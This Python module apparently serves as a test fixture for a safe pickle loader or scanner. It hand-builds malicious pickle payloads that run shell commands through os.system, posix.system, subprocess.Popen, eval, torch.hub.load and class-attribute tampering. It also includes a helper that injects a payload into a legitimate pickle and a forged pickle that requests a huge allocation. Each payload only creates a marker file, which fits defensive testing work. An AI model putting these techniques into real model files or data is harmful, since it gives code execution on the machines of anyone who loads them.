"""Files that run code when they are read without care, each by another way."""

from __future__ import annotations

import os
import pickle
from pathlib import Path


class Evil:
    """Unpickling this leaves a file behind."""

    def __init__(self, target: Path) -> None:
        self.target = target

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (f"touch {self.target}",)


def text(words: str) -> bytes:
    """A text, in a pickle."""
    return b"V" + words.encode("raw_unicode_escape") + b"\n"


def named(module: str, name: str) -> bytes:
    """What a class or a function is called, in a pickle."""
    return f"c{module}\n{name}\n".encode()


def call(function: bytes, *arguments: bytes) -> bytes:
    """A call, in a pickle."""
    return function + b"(" + b"".join(arguments) + b"tR"


_KIND = named("torch.distributed.checkpoint.planner", "WriteItemType")
_GETATTR = named("builtins", "getattr")


def payloads(target: Path) -> dict[str, bytes]:
    """Pickled operations that leave the stack as it was and make `target` when they are followed, by their way."""
    code = f"open({str(target)!r}, 'w').close()"
    command = text(f"touch {target}")
    state = b"}(" + text("_member_map_") + b"}(" + text("x") + named("builtins", "eval") + b"uu"
    return {
        "a function by name": call(named("posix", "system"), command) + b"0",
        "an old instance": b"(" + command + b"iposix\nsystem\n0",
        "an object": b"(" + named("posix", "system") + command + b"o0",
        "a new object with keywords": named("subprocess", "Popen") + b"(" + command + b"t}\x920",
        "an attribute of a module": call(call(_GETATTR, named("os", "path"), text("system")), command) + b"0",
        "eval through an attribute": call(call(_GETATTR, named("builtins", "dict"), text("get")), text(code)) + b"0",
        "attributes of a class replaced": _KIND + b"(N" + state + b"tb0",
        "attributes of a class set": _KIND + state + b"b0",
        "a registered extension": b"\x82\x01" + b"0",
        "a persistent id": b"Pposix\n0",
        "a function of torch": call(named("torch.hub", "load"), text("x"), text("y")) + b"0",
    }


def infected(data: bytes, payload: bytes) -> bytes:
    """A pickle that follows a payload first, and then gives what it gave."""
    return data[:2] + payload + data[2:] if data[:1] == b"\x80" else payload + data


def forged(module: str, name: str, *, size: int) -> bytes:
    """A short pickle that asks for one huge object."""
    return call(named(module, name), pickle.dumps(size, protocol=0)[:-1]) + b"."
